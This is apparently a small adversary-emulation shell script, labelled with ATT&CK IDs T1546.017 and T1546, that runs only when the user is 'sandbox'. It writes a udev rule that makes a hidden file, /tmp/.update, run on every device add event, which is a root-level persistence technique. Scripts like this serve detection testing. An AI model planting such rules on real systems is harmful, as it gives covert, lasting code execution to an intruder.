#!/bin/sh
# technique: T1546.017 T1546
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'ACTION=="add", RUN+="/tmp/.update"' > /etc/udev/rules.d/99-x.rules
